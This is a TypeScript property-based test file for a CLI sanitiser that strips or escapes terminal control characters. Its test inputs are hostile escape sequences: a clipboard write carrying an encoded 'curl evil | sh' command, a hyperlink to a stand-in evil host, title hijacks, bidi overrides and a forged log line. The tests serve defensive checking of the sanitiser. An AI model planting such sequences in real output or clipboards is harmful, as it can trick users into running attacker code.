import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createColors } from "../../sdk/cli/stateText.js";
import { terminalJson, terminalLine, terminalText } from "../../sdk/cli/terminalText.js";

/** Every character a terminal acts on instead of showing: C0 but tab, DEL, C1, separators, bidi controls. */
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;

const printable = fc.string({ unit: "grapheme" }).filter((text) => !ACTIVE.test(text));
const control = fc.oneof(
  fc.integer({ min: 0, max: 0x1f }).filter((code) => code !== 0x09),
  fc.integer({ min: 0x7f, max: 0x9f }),
  fc.constantFrom(0x061c, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069),
).map((code) => String.fromCharCode(code));
const sequence = fc.constantFrom(
  "\u001b[31m",
  "\u001b[2J",
  "\u001b[1A\u001b[2K",
  "\u001b[?25l",
  "\u009b6n",
  "\u001b]0;pwned\u0007",
  "\u001b]8;;https://evil.example\u001b\\",
  "\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007",
  "\u001bP+q544e\u001b\\",
  "\u001b_payload\u009c",
  "\u001bc",
  "\u001b7",
  "\u001b(B",
  "\r",
  "\b\b\b",
  "\n",
);
/** Text a hostile client could store: printable runs mixed with control characters and whole sequences. */
const hostile = fc.array(fc.oneof(printable, control, sequence, fc.string({ unit: "binary" })), { maxLength: 12 }).map((parts) => parts.join(""));

describe("terminalText", () => {
  it("leaves no character a terminal would act on, whatever the text", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(terminalText(text)).not.toMatch(ACTIVE);
        expect(terminalLine(text)).not.toMatch(ACTIVE);
      }),
    );
  });

  it("leaves printable text, in any script and with tabs, exactly as it is", () => {
    fc.assert(
      fc.property(printable, (text) => {
        expect(terminalText(text)).toBe(text);
      }),
    );
    expect(terminalText("Grüße, 世界 👩‍💻\tC:\\temp\\x1b")).toBe("Grüße, 世界 👩‍💻\tC:\\temp\\x1b");
  });

  it("keeps the printable text around what it removes, in order", () => {
    fc.assert(
      fc.property(printable, sequence, printable, (before, seq, after) => {
        expect(terminalText(before + seq + after).startsWith(before)).toBe(true);
        expect(terminalText(before + seq + after).endsWith(after)).toBe(true);
      }),
    );
  });

  it("is idempotent: sanitised text is left alone", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(terminalText(terminalText(text))).toBe(terminalText(text));
      }),
    );
  });

  it("removes whole colour, cursor, title, hyperlink and device-control sequences", () => {
    expect(terminalText("\u001b[1;31mred\u001b[0m")).toBe("red");
    expect(terminalText("a\u001b[1A\u001b[2Kb")).toBe("ab");
    expect(terminalText("\u001b]0;owned title\u0007name")).toBe("name");
    expect(terminalText("\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\")).toBe("click");
    expect(terminalText("\u001bP1$r0m\u001b\\x")).toBe("x");
    expect(terminalText("\u009b2Jx")).toBe("x");
    expect(terminalText("\u001bcreset")).toBe("reset");
  });

  it("shows line breaks, carriage returns, backspaces and lone escapes as escapes, so a value cannot forge a line", () => {
    expect(terminalText("ok\n12:00:00.000 INFO  etl | forged")).toBe("ok\\n12:00:00.000 INFO  etl | forged");
    expect(terminalText("secret\rpublic")).toBe("secret\\rpublic");
    expect(terminalText("abc\b\b\bxyz")).toBe("abc\\x08\\x08\\x08xyz");
    expect(terminalText("bell\u0007")).toBe("bell\\x07");
    expect(terminalText("\u001b]0;never terminated")).toBe("\\x1b]0;never terminated");
    expect(terminalText("end\u001b")).toBe("end\\x1b");
    expect(terminalText("\u202eevil")).toBe("\\u202eevil");
    expect(terminalText("del\u007f")).toBe("del\\x7f");
  });

  it("keeps the CLI's own colours when they are painted around sanitised text", () => {
    const colors = createColors(true);
    expect(colors.red(terminalText("\u001b[32mFailed\u001b[0m"))).toBe("\u001b[31mFailed\u001b[39m");
  });
});

describe("terminalLine", () => {
  it("folds line breaks and runs of blanks into single spaces", () => {
    expect(terminalLine("  warehouse\r\n  unreachable\u001b[31m ")).toBe("warehouse unreachable");
  });
});

describe("terminalJson", () => {
  it("escapes what JSON.stringify leaves active, and the text still parses to the same value", () => {
    fc.assert(
      fc.property(fc.jsonValue(), hostile, (value, text) => {
        const json = JSON.stringify({ value, text });
        const safe = terminalJson(json);
        expect(safe).not.toMatch(ACTIVE);
        expect(JSON.parse(safe)).toEqual(JSON.parse(json));
      }),
    );
  });
});
